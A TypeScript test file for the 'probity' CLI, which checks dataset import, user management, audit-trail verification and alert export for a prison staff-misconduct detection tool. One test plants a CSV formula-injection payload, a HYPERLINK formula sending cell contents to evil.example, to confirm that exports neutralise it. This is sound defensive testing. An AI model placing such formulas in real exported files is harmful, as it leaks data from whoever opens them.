/**
 * The `probity` commands. Most run main() in this process on one database per describe, opened and
 * migrated once, on every backend; two run the executable as a user types it, in a process of its own.
 * No test expects speed: the slow ones (an import, a detection run, a process of its own) have a
 * generous time limit, a safety net rather than a measure.
 */
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, cliOn, probity, type Cli } from '../../test/cli.ts';
import { backends, type TestBackend } from '../../test/databases.ts';
import { copyDataset, readLines, VALID_FIXTURE, writeLines } from '../../test/dataset-helpers.ts';
import type { Database } from '../db/index.ts';

const SLOW = 300_000;

/**
 * A database of `backend` for the describe it is called in, with commands run on it in this process:
 * created and migrated once before its tests, removed after them.
 */
function onDatabase(backend: TestBackend): { cli: Cli; db: Database } {
  const held = {} as { cli: Cli; db: Database };
  let dispose = async () => {};
  beforeAll(async () => {
    const created = await backend.create();
    dispose = created.dispose;
    held.db = created.db;
    held.cli = cliOn(created.db);
  }, SLOW);
  afterAll(() => dispose());
  return held;
}

describe('the probity executable, in a process of its own', () => {
  it(
    'explains itself and each command',
    async () => {
      const help = await promisify(execFile)(process.execPath, [BIN, '--help']);
      expect(help.stdout).toMatch(/Usage: probity/);
      for (const command of ['serve', 'migrate', 'import']) expect(help.stdout).toContain(command);
    },
    SLOW,
  );

  it(
    'exits 1 with the reason and the usage on stderr for bad arguments',
    async () => {
      const failed = await promisify(execFile)(process.execPath, [BIN, 'import'], {
        env: { ...process.env, LOG_LEVEL: 'silent' },
      }).then(
        () => undefined,
        (err: { code: number; stdout: string; stderr: string }) => err,
      );
      expect(failed?.code).toBe(1);
      expect(failed?.stdout).toBe('');
      expect(failed?.stderr).toMatch(/^error: missing required argument 'dir'$/m);
      expect(failed?.stderr).toMatch(/^Usage: probity import /m);
    },
    SLOW,
  );

  it(
    'opens and migrates the embedded database in its data folder, and releases it on exit',
    async () => {
      const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'probity-cli-'));
      const env = { ...process.env, LOG_LEVEL: 'silent', PROBITY_DATA_DIR: dataDir };
      const migrated = await promisify(execFile)(process.execPath, [BIN, 'migrate'], { env });
      expect(migrated.stdout).toMatch(/^Applied \d{4}_/);
      expect(fs.existsSync(path.join(dataDir, 'pglite.lock'))).toBe(false);
      // The same folder opened again, as a command in this process opens it: nothing left to apply.
      const again = await probity(['migrate'], { PROBITY_DATA_DIR: dataDir });
      expect(again).toEqual({ code: 0, stdout: 'The database schema is up to date.\n', stderr: '' });
      fs.rmSync(dataDir, { recursive: true, force: true });
    },
    SLOW,
  );
});

describe('probity CLI', () => {
  it('explains each command', async () => {
    const importHelp = await probity(['import', '--help']);
    expect(importHelp.stdout).toMatch(/--report/);
  });

  it('gives one clear line for bad configuration', async () => {
    const config = await probity(['migrate'], { PORT: 'abc' });
    expect(config.code).toBe(1);
    expect(config.stderr.trim()).toMatch(/^probity: Invalid configuration: PORT: /);
  });
});

describe.each(backends)('probity import and audit verify on $name', (backend) => {
  const on = onDatabase(backend);

  it(
    'imports a dataset, prints the summary table, and exits 1 naming the bad row',
    async () => {
      const ok = await on.cli(['import', VALID_FIXTURE]);
      expect(ok.code).toBe(0);
      expect(ok.stdout).toMatch(/^file\s+rows\s+inserted\s+updated\s+unchanged\s+refused$/m);
      expect(ok.stdout).toMatch(/^presence\.csv\s+3\s+3\s+0\s+0\s+0$/m);

      const bad = copyDataset();
      const lines = readLines(bad, 'calls.csv');
      writeLines(bad, 'calls.csv', [lines[0]!, lines[1]!.replace('+01:00', '')]);
      const refused = await on.cli(['import', bad]);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain(
        'calls.csv:2: column start: got "2024-06-20T18:00:00", expected an ISO 8601 time',
      );
      expect(refused.stdout).toMatch(/^calls\.csv\s+1\s+0\s+0\s+0\s+1$/m);

      // Every imported file left one entry in the audit trail (26, then the 16 files before calls.csv
      // again), and each import's rebuild of the link graph one; the refused file left none.
      const verified = await on.cli(['audit', 'verify']);
      expect(verified.code).toBe(0);
      // No server ran to chain them: every entry was pending.
      const pending = /^Pending entries chained first: (\d+)\.$/m.exec(verified.stdout)?.[1];
      expect(verified.stdout).toContain(`Audit trail intact: ${pending} entries.`);
      expect(verified.stdout).toMatch(/^Audit trail intact: 44 entries\.$/m);
      expect(verified.stdout).toMatch(/^Latest hash: [0-9a-f]{64}$/m);
      const again = await on.cli(['audit', 'verify']);
      expect(again.stdout).toMatch(/^Pending entries chained first: 0\.$/m);
    },
    SLOW,
  );

  it('gives one clear line for a missing folder', async () => {
    const missing = await on.cli(['import', '/no/such/folder']);
    expect(missing.code).toBe(1);
    expect(missing.stderr.trim()).toBe(
      'probity: /no/such/folder: got no such folder, expected a dataset folder',
    );
  });
});

describe.each(backends)('probity user on $name', (backend) => {
  const on = onDatabase(backend);

  it(
    'adds, lists, changes the role of, disables and enables accounts, auditing each change',
    async () => {
      const probity = on.cli;
      expect((await probity(['import', VALID_FIXTURE])).code).toBe(0);

      const added = await probity([
        'user',
        'add',
        'sec.one',
        '--name',
        'Sec One',
        '--role',
        'security_analyst',
        '--establishment',
        'XAA',
      ]);
      expect(added.code).toBe(0);
      expect(added.stdout).toMatch(/Added sec\.one \(Security analyst\)\.\nPassword: \S{20}/);

      const noScope = await probity([
        'user',
        'add',
        'sec.two',
        '--name',
        'Sec Two',
        '--role',
        'security_analyst',
      ]);
      expect(noScope.code).toBe(1);
      expect(noScope.stderr).toContain('a security analyst needs at least one establishment');
      const badRole = await probity(['user', 'add', 'x.y', '--name', 'X', '--role', 'superuser']);
      expect(badRole.stderr).toContain('unknown role "superuser"');
      const badCode = await probity(['user', 'set-role', 'sec.one', 'probation_manager', '--region', 'XAA']);
      expect(badCode.stderr).toContain('no probation region has the code "XAA"');

      expect(
        (await probity(['user', 'set-role', 'sec.one', 'probation_manager', '--region', 'XPR'])).stdout,
      ).toContain('sec.one is now Probation manager.');
      expect((await probity(['user', 'disable', 'sec.one'])).code).toBe(0);
      const list = await probity(['user', 'list']);
      expect(list.stdout).toMatch(/^sec\.one\s+Sec One\s+probation_manager\s+XPR\s+disabled\s+never$/m);
      // Looking at the accounts is recorded, as on the web.
      const listed = await on.db.query(
        `SELECT actor, details->>'results' AS n FROM audit_log WHERE action = 'users.list'`,
      );
      expect(listed.rows).toEqual([{ actor: expect.stringMatching(/^cli:/), n: '1' }]);
      expect((await probity(['user', 'enable', 'nobody'])).stderr).toContain('no user is called "nobody"');

      const audit = await probity(['audit', 'verify']);
      expect(audit.code).toBe(0);
    },
    SLOW,
  );
});

describe.each(backends)('probity detect, alerts and evaluate on $name', (backend) => {
  const on = onDatabase(backend);

  it(
    'raises alerts, prints them as a table, CSV or JSON, and refuses what it cannot evaluate',
    async () => {
      const probity = on.cli;
      expect((await probity(['import', VALID_FIXTURE])).code).toBe(0);
      const run = await probity(['detect', '--quiet']);
      expect(run.code).toBe(0);
      // Every day of the window swept on the first run; none on the next, unless rebuilt.
      const days = (out: string) =>
        /^XAA\s+2024-\d\d-\d\d\s+2024-\d\d-\d\d\s+(\d+) of 90\s+3\s+\d+\s+1\s+default$/m.exec(out)?.[1];
      expect(days(run.stdout)).toBe('90');
      expect(days((await probity(['detect', '--quiet', '--establishment', 'XAA'])).stdout)).toBe('0');
      expect(days((await probity(['detect', '--quiet', '--establishment', 'XAA', '--rebuild'])).stdout)).toBe(
        '90',
      );
      const csv = await probity(['alerts', '--format', 'csv']);
      expect(csv.stdout.split('\n')[0]).toBe(
        'rank,alert_id,establishment,staff_id,subject,score,severity,indicators,summary',
      );
      expect(csv.stdout).toMatch(/^1,AL-\d+,XAA,S1001,prisoner:A1234BC,/m);
      // --all: every candidate in the same columns, marked raised or not.
      const all = (await probity(['alerts', '--all', '--format', 'csv'])).stdout.trim().split('\n');
      expect(all[0]).toBe(
        'rank,alert_id,establishment,staff_id,subject,score,severity,indicators,summary,raised',
      );
      expect(all.filter((l) => l.endsWith(',yes'))).toHaveLength(csv.stdout.trim().split('\n').length - 1);
      expect(all.slice(1).every((l) => /,(yes|no)$/.test(l))).toBe(true);
      const json = JSON.parse(
        (await probity(['alerts', '--format', 'json', '--limit', '1', '--baseline'])).stdout,
      );
      expect(json).toHaveLength(1);
      // Every listing is recorded: who looked at whom is suspected.
      const listings = await on.db.query<{ format: string }>(
        `SELECT details->>'format' AS format FROM audit_log WHERE action = 'alerts.list' ORDER BY id`,
      );
      expect(listings.rows.map((l) => l.format)).toEqual(['csv', 'csv', 'json']);
      // Imported text reaches the CSV as text, never as a spreadsheet formula.
      await on.db.query(
        `UPDATE alerts SET summary = '=HYPERLINK("http://evil.example/?"&A1,"Open")', subject = '@SUM(1+1)'`,
      );
      const hostile = (await probity(['alerts', '--format', 'csv', '--limit', '1'])).stdout;
      expect(hostile).toMatch(/^1,AL-\d+,XAA,S1001,"'@SUM\(1\+1\)",[\d.]+,\w+,[^,]*,"'=HYPERLINK\(""http/m);
      expect((await probity(['alerts', '--format', 'xml'])).stderr).toContain(
        '--format: expected table, csv or json',
      );
      expect((await probity(['detect', '--establishment', 'NOPE'])).stderr).toContain(
        'no prison or probation region has the code "NOPE"',
      );
      const evaluation = await probity(['evaluate', VALID_FIXTURE]);
      expect(evaluation.code).toBe(1);
      expect(evaluation.stderr).toMatch(/ground_truth\.json: ENOENT/);
    },
    SLOW,
  );
});
